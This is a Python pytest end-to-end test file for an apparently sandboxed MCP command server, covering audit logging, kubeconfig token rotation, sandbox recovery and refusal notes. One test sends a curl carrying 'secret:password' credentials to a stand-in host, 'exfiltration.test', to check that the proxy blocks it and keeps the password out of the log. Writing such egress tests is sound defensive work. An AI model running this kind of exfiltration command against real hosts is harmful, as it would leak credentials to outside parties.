"""What an operator relies on: the audit log, credentials that change while the server runs, and plain words
about what is wrong."""

import json
import os
import signal
import stat
import time
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest
import requests

from mcp_server import audit_command
from tests.e2e_local.conftest import USERS
from tests.e2e_local.harness import Server, running
from tests.e2e_local.origins import (
    API,
    FILES,
    ROTATED_TOKEN,
    TOKEN,
    World,
    eventually,
    world,
)

CURL = "curl -sS --max-time 20"


@pytest.fixture(scope="module", params=USERS)
def operated(request: pytest.FixtureRequest) -> Iterator[World]:
    with world(unprivileged=request.param == "user", warmPoolSize=2) as made:
        yield made


def test_each_request_is_recorded_as_of_its_session_also_from_warm_sandboxes(operated: World) -> None:
    sessions = [f"session-{number}" for number in range(5)]
    for session in sessions:
        assert operated.server.call(session, f"{CURL} https://{FILES}/of-{session}").stdout == "ok"
    recorded = [(line["client"], line["path"]) for line in operated.audit()]
    assert [entry for entry in recorded if "/of-" in entry[1]] == [
        (session, f"/of-{session}") for session in sessions
    ]
    for session in sessions:
        operated.server.end(session)


def first_process(session: str, server: Server) -> int:
    """The pid, on this host, of the first process in the sandbox of a session."""
    marker = f"sleep\0{time.time_ns() % 10**9 + 10**9}\0"
    server.call(session, f"{marker.replace(chr(0), ' ')} &")
    found = Path()

    def shows() -> bool:  # not before the background job has become `sleep`
        nonlocal found
        found = next((p for p in Path("/proc").glob("[0-9]*") if reads(p / "cmdline") == marker), Path())
        return found != Path()

    eventually(shows)
    while found.name != "0":
        namespaced = reads(found / "status").split("NSpid:")[1].splitlines()[0].split()
        if namespaced[-1] == "1":
            return int(found.name)
        parent = reads(found / "status").split("PPid:")[1].split()[0]
        found = found.with_name(parent)
    raise AssertionError("the process is in no sandbox")


def says_ok(server: Server, session: str, command: str) -> bool:
    return server.call(session, command).stdout == "ok"


def reads(path: Path) -> str:
    try:
        return path.read_text()
    except OSError:
        return ""  # it has ended


def test_a_sandbox_that_was_killed_comes_back_with_its_way_out_and_its_name(operated: World) -> None:
    for number in range(2):
        operated.server.call("killed", f"{CURL} https://{FILES}/before-{number}")
        os.kill(first_process("killed", operated.server), signal.SIGKILL)
        # A command that is sent in this moment may be told that it ended with the sandbox.
        after = f"{CURL} https://{FILES}/after-{number}"
        eventually(partial(says_ok, operated.server, "killed", after))
    recorded = {line["path"]: line["client"] for line in operated.audit()}
    for path in ("/before-0", "/after-0", "/before-1", "/after-1"):
        assert recorded[path] == "killed"


def test_the_helper_in_the_namespaces_may_die(operated: World) -> None:
    children = Path(f"/proc/{operated.server.pid}/task/{operated.server.pid}/children").read_text().split()
    (helper,) = (pid for pid in children if "netns_helper" in reads(Path(f"/proc/{pid}/cmdline")))
    os.kill(int(helper), signal.SIGKILL)
    for session in ("survivor-1", "survivor-2", "survivor-3"):  # more than the warm pool holds
        assert operated.server.call(session, f"{CURL} https://{FILES}/").stdout == "ok"
    eventually(lambda: logged(operated, "the helper that opens the way to the proxy is started again"))


def test_a_refused_connect_is_recorded_with_its_target(operated: World) -> None:
    operated.server.call("refused", f"{CURL} https://secret:password@exfiltration.test:8443/data?x=1")
    (line,) = (line for line in operated.audit() if line["client"] == "refused")
    assert (line["event"], line["target"], line["status"]) == ("connect", "exfiltration.test:8443", 403)
    assert "password" not in json.dumps(line)


@pytest.mark.parametrize(
    ("command", "notes"),
    [
        (
            "for n in 1 2; do curl -sS https://github.com; done; curl -sS https://api.test:8443",
            [
                "refused: github.com:443 is not among the hosts",
                "refused: api.test:8443 is not among the hosts",
            ],
        ),
        ("curl -sS http://plain.test/x", ["refused: plain http to plain.test does not leave the sandbox"]),
        (f"{CURL} https://{FILES}/", []),
    ],
)
def test_a_model_is_told_what_was_refused(operated: World, command: str, notes: list[str]) -> None:
    operated.server.call("told", ":")
    answer = operated.server.call("told", command)
    told = [note for note in answer.structured["notes"] if note.startswith("refused: ")]
    assert len(told) == len(notes)
    for note, beginning in zip(told, notes, strict=True):
        assert note.startswith(beginning) and f"[{note}]" in answer.text
    assert operated.server.call("told", ":").structured["notes"] == []
    assert "refused" not in operated.server.call("told-2", ":").text


def test_calls_are_recorded_and_say_who_sent_a_request(
    operated: World, capsys: pytest.CaptureFixture[str]
) -> None:
    operated.server.call("recorded", f"{CURL} https://{FILES}/recorded; {CURL} -X PUT http://plain.test/x")
    assert audit_command.main([str(operated.server.state)]) == 0
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    recorded = {line["method"]: line for line in lines if line["client"] == "recorded"}
    assert recorded.keys() == {"GET", "PUT"}
    for line in recorded.values():
        assert (line["owner"], line["session"], line["during_call"]) == ("local", "recorded", True)
    (call,) = (line for line in operated.calls() if line["session"] == "recorded")
    assert "command" not in call


def test_the_audit_log_is_its_owners_alone(operated: World) -> None:
    status = (operated.server.state / "audit.jsonl").stat()
    assert stat.S_IMODE(status.st_mode) == 0o600
    assert status.st_uid == Path(f"/proc/{operated.server.pid}").stat().st_uid


def logged(operated: World, text: str) -> bool:
    return any(text in line for line in operated.server.log)


def health(server: Server) -> dict[str, Any]:
    answer: dict[str, Any] = requests.get(server.url.replace("/mcp", "/health"), timeout=20).json()
    return answer


def pods(operated: World) -> list[str]:
    """The credential that the API server sees for a request that a sandbox makes now."""
    before = len(operated.api.requests)
    operated.server.call("rotation", f"{CURL} https://{API}/api/v1/pods")
    return [request.values("authorization")[0] for request in operated.api.requests[before:]]


def test_a_new_kubeconfig_is_used_at_once_and_a_broken_one_never(operated: World) -> None:
    watch = f"{CURL} -N --max-time 120 'https://{API}/api/v1/namespaces?watch=true' > watched &"
    operated.server.call("watcher", watch)
    eventually(lambda: "default" in reads(operated.workspace("watcher") / "watched"))
    assert pods(operated) == [f"Bearer {TOKEN}"]

    operated.rotate(operated.kubeconfig(ROTATED_TOKEN).replace("name: x", "name: renamed"))
    eventually(lambda: pods(operated) == [f"Bearer {ROTATED_TOKEN}"])
    # The sandbox that runs sees the new contexts, and a request that runs goes on.
    assert "name: renamed" in operated.server.call("watcher", "cat $KUBECONFIG").stdout
    operated.api.api.create({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "born-later"}})
    eventually(lambda: "born-later" in reads(operated.workspace("watcher") / "watched"))

    operated.rotate("users: [{name: u, user: {token: half-written-token")
    eventually(lambda: health(operated.server)["detail"] != "ok")
    assert health(operated.server)["ready"] is True
    assert "kubeconfig is not valid YAML" in health(operated.server)["detail"]
    eventually(lambda: logged(operated, "routing stays as it was"))
    url = operated.server.url.replace("/mcp", "/metrics")
    metrics = requests.get(url, headers=operated.server.headers("any"), timeout=20).text
    assert 'cli_mcp_proxy_config_current{source="routing"} 0.0' in metrics
    assert pods(operated) == [f"Bearer {ROTATED_TOKEN}"]

    operated.rotate(operated.kubeconfig(TOKEN))
    eventually(lambda: health(operated.server)["detail"] == "ok")
    assert pods(operated) == [f"Bearer {TOKEN}"]
    written = "".join(operated.server.log) + operated.server.screen + json.dumps(operated.audit())
    assert [secret for secret in (TOKEN, ROTATED_TOKEN, "half-written-token") if secret in written] == []
    operated.server.end("watcher")


def test_entries_that_the_proxy_does_not_serve_are_said_at_the_start(operated: World) -> None:
    prefix = "the proxy does not serve this entry of the kubeconfig"
    eventually(lambda: logged(operated, f'{prefix}: user "admin": `client-certificate-data`: '))
    eventually(lambda: logged(operated, f'{prefix}: context "admin": its user "admin" is missing or refused'))


def test_a_kubernetes_target_without_a_kubeconfig_does_not_start() -> None:
    says = (
        "needs a kubeconfig: put it into DIR/cli-mcp-test-kubeconfig/kubeconfig and start with --secrets-dir"
    )
    with pytest.raises(AssertionError, match=says), running(proxy={"targets": [{"type": "kubernetes"}]}):
        pass
